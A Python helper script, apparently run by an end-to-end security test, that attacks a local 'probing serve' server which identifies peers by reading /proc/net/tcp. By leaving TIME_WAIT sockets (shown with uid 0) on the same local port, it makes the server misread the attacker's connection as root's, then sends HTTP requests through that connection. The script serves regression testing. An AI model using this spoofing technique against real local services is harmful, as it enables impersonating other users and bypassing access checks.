# SPDX-License-Identifier: MIT
"""Run as another local user by test_serve_peer_time_wait in tests/e2e/test_serve.py (its text
given to python -c):
the attack on a loopback `probing serve` that reads the peer's user from the first
/proc/net/tcp line with the peer's address and port. From one local port P it leaves
TIME_WAIT sockets towards 24 other loopback addresses 127.X.Y.Z:PORT (a listener of its own
on each; a TIME_WAIT line shows uid 0), then connects from the same P to the server, until the first
/proc/net/tcp line for 127.0.0.1:P with remote port PORT is one of those TIME_WAIT ones.
Then it sends each request on such a connection. Usage: -c TEXT PORT JSON, JSON a list of
[method, path]; prints a JSON list of {positioned, first_state, first_uid, states_seen, status,
body}."""
import json
import os
import random
import socket
import sys

PORT = int(sys.argv[1])
HOST = "127.0.0.1:%d" % PORT


def reuse_socket():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    return s


def leave_time_wait(lport, addr):
    """A connection 127.0.0.1:lport -> addr:PORT that this side closes first: TIME_WAIT."""
    lst = reuse_socket()
    lst.bind((addr, PORT))
    lst.listen(1)
    c = reuse_socket()
    c.bind(("127.0.0.1", lport))
    c.connect((addr, PORT))
    a, _ = lst.accept()
    c.close()
    a.recv(1)  # its FIN
    a.close()
    lst.close()


def first_line(lport):
    """(state, uid) of the first /proc/net/tcp line with local 127.0.0.1:lport, remote PORT."""
    want = "0100007F:%04X" % lport
    fd = os.open("/proc/net/tcp", os.O_RDONLY)  # in reads as large as the kernel fills
    try:
        chunks = []
        while True:
            b = os.read(fd, 1 << 22)
            if not b:
                break
            chunks.append(b)
    finally:
        os.close(fd)
    for line in b"".join(chunks).decode().splitlines()[1:]:
        w = line.split()
        if w[1] == want and int(w[2].split(":")[1], 16) == PORT:
            return w[3], int(w[7])
    return None, None


def positioned(seen):
    for _ in range(200):
        s0 = socket.socket()
        s0.bind(("127.0.0.1", 0))
        lport = s0.getsockname()[1]
        s0.close()
        for _ in range(24):  # other addresses each try: the lines' order is the hash's
            leave_time_wait(lport, "127.%d.%d.%d" % (random.randrange(1, 255),
                                                    random.randrange(256), random.randrange(1, 255)))
        c = reuse_socket()
        c.bind(("127.0.0.1", lport))
        c.connect(("127.0.0.1", PORT))
        state, uid = first_line(lport)
        seen.append(state)
        if state == "06":
            return c, state, uid
        c.close()
    return None, None, None


def ask(c, method, path):
    req = "%s %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n" % (method, path, HOST)
    if method == "POST":
        req += "Origin: http://%s\r\nContent-Length: 0\r\n" % HOST
    c.settimeout(60)
    c.sendall((req + "\r\n").encode())
    data = b""
    while True:
        b = c.recv(65536)
        if not b:
            break
        data += b
    head, _, body = data.partition(b"\r\n\r\n")
    return int(head.split()[1]), body.decode("utf-8", "replace")


out = []
for method, path in json.loads(sys.argv[2]):
    seen = []
    c, state, uid = positioned(seen)
    r = {"positioned": c is not None, "first_state": state, "first_uid": uid,
         "states_seen": " ".join(map(str, seen))}
    if c is not None:
        r["status"], r["body"] = ask(c, method, path)
        c.close()
    out.append(r)
print(json.dumps(out))
